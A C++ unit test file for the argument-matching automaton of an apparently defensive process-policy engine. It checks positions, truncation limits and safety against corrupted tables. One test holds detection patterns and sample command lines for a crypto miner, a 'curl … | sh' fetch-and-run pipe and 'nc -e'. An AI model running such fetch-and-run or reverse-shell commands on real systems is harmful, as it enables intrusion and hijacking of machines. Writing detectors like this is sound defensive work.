// SPDX-License-Identifier: Apache-2.0
// The walk: positions, where it is cut, and that no table makes it read
// outside (what the sanitizers watch).
#include <gtest/gtest.h>

#include <bit>
#include <random>

#include "policy/automaton/build.h"
#include "policy/automaton/walk.h"
#include "random_arguments.h"
#include "realistic_arguments.h"

namespace quell::policy::test {
namespace {

using Kind = ArgumentPattern::Kind;
using Outputs = std::vector<std::uint32_t>;

automaton::Table table_of(const std::vector<ArgumentPattern>& patterns) {
    automaton::BuildResult built = automaton::build(patterns);
    EXPECT_TRUE(built.automaton);
    return built.automaton ? std::move(built.automaton->table) : automaton::Table{};
}

TEST(AutomatonWalk, Positions) {
    std::vector<ArgumentPattern> patterns;
    for (std::uint32_t position = 0; position < 8; position++) patterns.push_back({Kind::kExact, "a", 1u << position, position});
    patterns.push_back({Kind::kExact, "a", kAnyArgument, 8});
    const automaton::Table table = table_of(patterns);
    for (std::uint32_t position = 0; position < 12; position++) {
        std::vector<std::string> arguments(position + 1);
        arguments[position] = "a";
        const Outputs expected = position < 8 ? Outputs{position, 8} : Outputs{8};
        EXPECT_EQ(automaton::walk(table, with_ends(arguments)).outputs, expected) << position;
    }
}

TEST(AutomatonWalk, EmptyArgumentsAndNoArguments) {
    const automaton::Table table = table_of({{Kind::kExact, "", kAnyArgument, 0},
                                             {Kind::kGlob, "*", kAnyArgument, 1},
                                             {Kind::kGlob, "?", kAnyArgument, 2},
                                             {Kind::kSuffix, "", 1u << 1, 3}});
    EXPECT_EQ(automaton::walk(table, "").outputs, Outputs{});
    EXPECT_EQ(automaton::walk(table, with_ends({""})).outputs, (Outputs{0, 1}));
    EXPECT_EQ(automaton::walk(table, with_ends({"a"})).outputs, (Outputs{1, 2}));
    EXPECT_EQ(automaton::walk(table, with_ends({"ab"})).outputs, (Outputs{1}));
    EXPECT_EQ(automaton::walk(table, with_ends({"ab", ""})).outputs, (Outputs{0, 1, 3}));
}

TEST(AutomatonWalk, ACommandLineOfAMiner) {
    const automaton::Table table = table_of({{Kind::kContains, "stratum+tcp://", kAnyArgument, 0},
                                             {Kind::kPrefix, "--donate-level", kAnyArgument, 0},
                                             {Kind::kGlob, "curl * | sh", 1u << 2, 1},
                                             {Kind::kSuffix, "/bash", 1u << 0, 2},
                                             {Kind::kExact, "-e", 1u << 1, 3}});
    EXPECT_EQ(automaton::walk(table, with_ends({"/tmp/x", "-o", "stratum+tcp://pool:3333", "--donate-level=1"})).outputs, Outputs{0});
    EXPECT_EQ(automaton::walk(table, with_ends({"/bin/bash", "-c", "curl http://x/y | sh"})).outputs, (Outputs{1, 2}));
    EXPECT_EQ(automaton::walk(table, with_ends({"bash", "curl http://x/y | sh", "-e"})).outputs, Outputs{});
    EXPECT_EQ(automaton::walk(table, with_ends({"nc", "-e", "curl  | sh"})).outputs, (Outputs{1, 3}));
    EXPECT_EQ(automaton::walk(table, with_ends({"nc", "-E", "curl | sh"})).outputs, Outputs{}) << "one space cannot be both";
}

TEST(AutomatonWalk, CutAtItsLongest) {
    const automaton::Table table = table_of({{Kind::kSuffix, "b", kAnyArgument, 0}, {Kind::kContains, "c", kAnyArgument, 1}});
    std::string arguments(automaton::kMaxWalkBytes - 2, 'a');
    arguments += std::string("b\0", 2);
    automaton::Walked walked = automaton::walk(table, arguments);
    EXPECT_FALSE(walked.cut);
    EXPECT_EQ(walked.bytes, automaton::kMaxWalkBytes);
    EXPECT_EQ(walked.outputs, Outputs{0});
    walked = automaton::walk(table, arguments + "c");
    EXPECT_TRUE(walked.cut);
    EXPECT_EQ(walked.bytes, automaton::kMaxWalkBytes);
    EXPECT_EQ(walked.outputs, Outputs{0}) << "what was read counts";
}

TEST(AutomatonWalk, CutWhereEveryByteHits) {
    std::vector<ArgumentPattern> patterns;
    for (std::uint32_t i = 0; i < 255; i++) patterns.push_back({Kind::kContains, "a", kAnyArgument, i});
    const automaton::Walked walked = automaton::walk(table_of(patterns), std::string(10'000, 'a'));
    EXPECT_TRUE(walked.cut);
    EXPECT_EQ(walked.bytes, automaton::kMaxWalkHits / 255 + 1);
    EXPECT_EQ(walked.outputs.size(), 255u);
}

TEST(AutomatonWalk, OneRunLeavesNothingToTheNext) {
    const automaton::Table table = table_of({{Kind::kGlob, "*ab*cd*", kAnyArgument, 0}});
    automaton::Walk walk(table);
    EXPECT_EQ(walk.run(with_ends({"ab", "cd"})).outputs, Outputs{});
    EXPECT_EQ(walk.run("ab").outputs, Outputs{});
    EXPECT_EQ(walk.run("cd").outputs, Outputs{});
    EXPECT_EQ(walk.run("abcd").outputs, Outputs{0});
    EXPECT_EQ(walk.run("cd").outputs, Outputs{});
}

TEST(AutomatonWalk, SizesArePowersOfTwo) {
    for (std::size_t count : {0u, 1u, 37u, 500u}) {
        const automaton::Table table = table_of(realistic_patterns(count));
        for (std::size_t size : {table.states.size(), table.cells.size(), table.rows.size(), table.hit_lists.size(), table.hits.size(), table.steps.size()})
            EXPECT_TRUE(std::has_single_bit(size)) << size;
        EXPECT_LE(table.hitting, table.hit_lists.size());
        EXPECT_LT(table.start, table.states.size());
    }
}

TEST(AutomatonWalk, AnyTableIsSafe) {
    std::mt19937 random(3);
    const automaton::Table good = table_of(realistic_patterns(50));
    for (unsigned round = 0; round < 2'000; round++) {
        automaton::Table table = good;
        const auto spoil = [&](auto& array) {
            using Value = typename std::remove_reference_t<decltype(array)>::value_type;
            if (random() % 4 == 0) array.resize(random() % 40);  // not a power of two either
            for (unsigned left = random() % 64; left > 0 && !array.empty(); left--) {
                Value& value = array[random() % array.size()];
                auto* bytes = reinterpret_cast<unsigned char*>(&value);
                for (std::size_t i = 0; i < sizeof value; i++) bytes[i] = static_cast<unsigned char>(random());
            }
        };
        spoil(table.states);
        spoil(table.cells);
        spoil(table.rows);
        spoil(table.hit_lists);
        spoil(table.hits);
        spoil(table.steps);
        if (random() % 3 == 0) table.start = static_cast<std::uint32_t>(random());
        if (random() % 3 == 0) table.hitting = static_cast<std::uint32_t>(random());
        if (random() % 3 == 0) table.row_shift = static_cast<std::uint32_t>(random());
        if (random() % 3 == 0) table.classes[random() % 256] = static_cast<std::uint8_t>(random());
        std::string bytes;
        for (unsigned left = random() % 300; left > 0; left--) bytes += static_cast<char>(random() % 3 ? "-/abch "[random() % 7] : random());
        const automaton::Walked walked = automaton::walk(table, bytes);
        EXPECT_LE(walked.bytes, bytes.size());
        EXPECT_TRUE(walked.cut || walked.bytes == bytes.size());
    }
}

}  // namespace
}  // namespace quell::policy::test
